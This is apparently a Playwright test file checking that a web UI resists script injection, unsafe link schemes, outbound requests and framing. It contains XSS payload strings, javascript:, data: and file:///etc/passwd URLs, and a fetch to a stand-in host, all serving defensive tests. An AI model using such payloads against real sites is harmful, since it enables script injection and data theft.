"""Whoever writes the documents, or sends links, gets no script into the page and no request out of it."""

import re

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Company, Visit
from tests.browser.visitor import FAILED_REQUEST, Visitor
from tests.deploy.programs import Program

MARKUP = "<img src=x onerror=window.taken=1><script>window.taken=1<\u2215script>"


def test_markup_in_a_document_is_text(company: Company, visitor: Visitor) -> None:
    company.writes(
        MARKUP, status="<b onclick=1>bold<b>", csv_url=f"https://x.example/{MARKUP}", products=[{MARKUP: {"a": MARKUP}}]
    )
    visitor.go().sees_rows(MARKUP)
    visitor.page.get_by_role("link", name=MARKUP, exact=True).click()
    expect(visitor.panel.get_by_role("heading", level=2)).to_have_text(MARKUP)
    expect(visitor.panel.locator(".badge")).to_have_text("<b onclick=1>bold<b>")
    expect(visitor.panel.get_by_role("columnheader")).to_have_text(MARKUP)
    company.writes(MARKUP, status=MARKUP[:60])
    expect(visitor.panel.locator(".time-line li span").first).to_contain_text(MARKUP[:60])
    assert visitor.page.locator("main img, main script, main b, aside img, aside script, aside b").count() == 0
    assert visitor.page.evaluate("window.taken") is None


@pytest.mark.parametrize(
    ("address", "href"),
    [
        ("https://files.example/a.csv", "https://files.example/a.csv"),
        ("http://files.example/a.csv", "http://files.example/a.csv"),
        ("gs://feeds/2026/100% a?b.csv", "https://storage.cloud.google.com/feeds/2026/100%25%20a%3Fb.csv"),
        ("javascript:window.taken=1", None),
        (" JavaScript:window.taken=1", None),
        ("java\nscript:window.taken=1", None),
        ("data:text/html,<script>window.taken=1</script>", None),
        ("vbscript:x", None),
        ("file:///etc/passwd", None),
        ("//elsewhere.example/a.csv", None),
        ("a.csv", None),
    ],
)
def test_only_addresses_of_files_become_links(
    company: Company, visitor: Visitor, address: str, href: str | None
) -> None:
    company.writes("import-1", csv_url=address)
    visitor.go("#process=import-1")
    value = visitor.panel.locator("dt:text-is('CSV URL') + dd")
    expect(value).to_have_text(re.compile("[a-z]"))
    if href is None:
        expect(value).to_have_text(address)
        expect(value.locator("a")).to_have_count(0)
    else:
        expect(value.locator("a")).to_have_attribute("href", href)


def test_the_policy_stops_a_script_that_got_in_all_the_same(service: Program, visit: Visit) -> None:
    visitor = visit(service, expects=("Executing inline script violates", "This document requires")).go()
    visitor.sees_light("live")
    inline = "document.head.append(Object.assign(document.createElement('script'), { text: 'window.taken = 1' }))"
    with pytest.raises(Exception, match="TrustedScript"):
        visitor.page.evaluate(inline)
    with pytest.raises(Exception, match="TrustedHTML"):
        visitor.page.evaluate("document.body.innerHTML = '<b>taken</b>'")
    assert visitor.page.evaluate("window.taken") is None


def test_the_page_can_send_nothing_to_another_host(service: Program, visit: Visit) -> None:
    visitor = visit(service, expects=("Connecting to 'https://elsewhere.example", "Fetch API cannot load")).go()
    visitor.sees_light("live")
    refused = visitor.page.evaluate("fetch('https://elsewhere.example/?data').then(() => 'sent', () => 'refused')")
    assert refused == "refused"


def test_the_page_can_be_framed_by_nobody(service: Program, visit: Visit) -> None:
    visitor = visit(service, expects=("Framing ", FAILED_REQUEST))
    visitor.page.goto(f"{visitor.url}/healthz")
    framed = visitor.page.evaluate(
        """url => new Promise(resolve => {
            const frame = document.createElement('iframe');
            frame.onload = () => { try { resolve(Boolean(frame.contentDocument?.title)) } catch { resolve(false) } };
            frame.src = url;
            document.body.append(frame);
        })""",
        f"{visitor.url}/ui",
    )
    assert framed is False
